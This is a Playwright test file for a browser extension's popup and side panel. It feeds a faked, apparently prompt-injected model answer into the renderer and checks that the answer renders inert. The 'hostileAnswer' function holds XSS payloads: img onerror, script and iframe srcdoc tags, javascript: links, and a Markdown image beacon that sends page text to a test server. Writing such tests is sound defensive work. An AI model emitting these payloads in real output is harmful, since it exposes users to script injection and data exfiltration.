import type { Locator, Page } from '@playwright/test';
import type { FakeServer } from '../../fakes/http';
import { startOpenAIFake } from '../../fakes/openai-fake';
import { expect, test } from '../fixtures';
import { FeaturePage } from '../support/popup-page';
import { installTraps, readTraps, setModelCommitted, startBeacon, waitForAnswerEnd } from '../support/probes';
import { saveSettings } from '../support/surfaces';

const KEY = 'sk-proj-hostile0123456789abcdef0123456789';

/** A prompt-injected answer: every way Markdown or raw HTML could run code or call home. */
function hostileAnswer(beacon: string): string {
  return [
    '## Summary',
    '',
    `The page says hello. <img src="${beacon}/img" onerror="window.__pwned='img'"> Inline image above.`,
    '',
    "<script>window.__pwned='script'</script>",
    '',
    `<iframe srcdoc="<script>parent.__pwned='iframe'</script>"></iframe>`,
    '',
    "Try [click me](javascript:window.__pwned='link') now.",
    '',
    `Or this <a href="javascript:window.__pwned='a'">raw link</a> here.`,
    '',
    `![beacon](${beacon}/beacon?d=page-text)`,
    '',
    'A normal [safe](https://example.com/page) link.',
    '',
    '```html',
    '<script>window.__pwned = "code";</script>',
    '```',
    '',
    'The end.',
  ].join('\n');
}

/** Everything the rendered answer must (not) contain, whichever surface shows it. */
async function expectInert(page: Page, answer: Locator, beacon: FakeServer): Promise<void> {
  // Rendered as Markdown (the lazy renderer has loaded), not the plain-text fallback shown meanwhile.
  await expect(answer.locator('.markdown').getByText('The end.')).toBeVisible();
  await expect(answer.locator('.markdown-fallback')).toHaveCount(0);
  await expect(answer.locator('script, iframe, img, object, embed, frame')).toHaveCount(0);

  // Links: only http(s)/mailto, opened in a new tab with no opener and no referrer.
  const links = await answer.locator('a[href]').evaluateAll((anchors) =>
    anchors.map((anchor) => ({
      href: anchor.getAttribute('href') ?? '',
      rel: anchor.getAttribute('rel') ?? '',
      target: anchor.getAttribute('target') ?? '',
      text: anchor.textContent ?? '',
    })),
  );
  expect(links.map((link) => link.text)).toContain('safe');
  for (const link of links) {
    expect(link.href, `link "${link.text}"`).toMatch(/^(https?:|mailto:)/i);
    expect(link.rel.split(/\s+/)).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
    expect(link.target).toBe('_blank');
  }
  expect(links.find((link) => link.text === 'safe')?.href).toBe('https://example.com/page');
  // The javascript: links are shown as text, with no href at all.
  const clickMe = answer.getByText('click me', { exact: true });
  await expect(clickMe).toBeVisible();
  expect(await clickMe.evaluate((element) => element.closest('a')?.getAttribute('href') ?? null)).toBeNull();
  expect(await answer.getByText('raw link').evaluate((element) => element.closest('a')?.getAttribute('href') ?? null)).toBeNull();
  await expect(answer.locator('a[href^="javascript" i], [href*="__pwned"], [onerror], [onclick], [srcdoc]')).toHaveCount(0);

  // The blocked image is shown as text, naming its address so the user sees what was not loaded.
  await expect(answer.locator('.blocked-image')).toHaveCount(1);
  await expect(answer.locator('.blocked-image')).toContainText('Image not loaded');
  await expect(answer.locator('.blocked-image')).toContainText('beacon');

  // The fenced code is shown as code, not run.
  await expect(answer.locator('pre code')).toContainText('<script>window.__pwned = "code";</script>');

  // Clicking the neutralised link does nothing: no navigation, no new page, no code.
  const pagesBefore = page.context().pages().length;
  const urlBefore = page.url();
  await clickMe.click();
  expect(page.url()).toBe(urlBefore);
  expect(page.context().pages().length).toBe(pagesBefore);

  // A request we make on purpose proves the beacon is reachable; nothing else may have hit it.
  await page.evaluate((url) => fetch(url, { mode: 'no-cors' }).then(() => undefined), `${beacon.url}/control`);
  await expect.poll(() => beacon.requests.map((request) => request.path)).toContain('/control');
  expect(beacon.requests.filter((request) => request.path !== '/control').map((request) => request.url)).toEqual([]);

  const traps = await readTraps(page);
  expect(traps.pwned, 'window.__pwned').toBeUndefined();
  expect(traps.inserted, 'script/iframe/img elements inserted in the page').toEqual([]);
  expect(traps.violations, 'CSP violations (the CSP is only the last line of defence)').toEqual([]);
}

for (const surface of ['popup', 'sidepanel'] as const) {
  test(`${surface}: a hostile Markdown answer renders inert (no script, frame, image beacon or javascript: link)`, async ({
    worker,
    openPage,
  }) => {
    const beacon = await startBeacon();
    const fake = await startOpenAIFake({ keys: [KEY], content: hostileAnswer(beacon.url) });
    try {
      await saveSettings(worker, { baseUrls: { openai: `${fake.url}/v1` } });
      const page = await openPage(surface);
      const dialogs: string[] = [];
      page.on('dialog', (dialog) => {
        dialogs.push(dialog.message());
        void dialog.dismiss();
      });
      const ui = new FeaturePage(page);
      await expect(ui.tab('Chat')).toBeVisible();
      await installTraps(page);
      if (surface === 'popup') await ui.chooseFeature('Summarizer');
      await setModelCommitted(ui, surface === 'popup' ? 'summarizer' : 'chat', 'gpt-test');
      await ui.saveKey(KEY);

      let answer: Locator;
      if (surface === 'popup') {
        await page.getByLabel('Text to summarize').fill('Summarize this page, please.');
        await ui.run();
        await waitForAnswerEnd(ui.answer);
        await expect(ui.badge).toHaveText(/BYOK/);
        answer = ui.answer;
      } else {
        const composer = page.getByLabel('Message', { exact: true });
        await composer.fill('What does the page say?');
        await composer.press('Enter');
        await expect(page.locator('.turn-assistant')).toHaveCount(1);
        answer = page.locator('.turn-assistant').last();
        await expect(answer.locator('.badge')).toHaveText(/BYOK/);
      }
      expect(fake.requests.filter((request) => request.path === '/v1/chat/completions')).toHaveLength(1);
      await expectInert(page, answer, beacon);
      expect(dialogs).toEqual([]);
    } finally {
      await fake.close();
      await beacon.close();
    }
  });
}
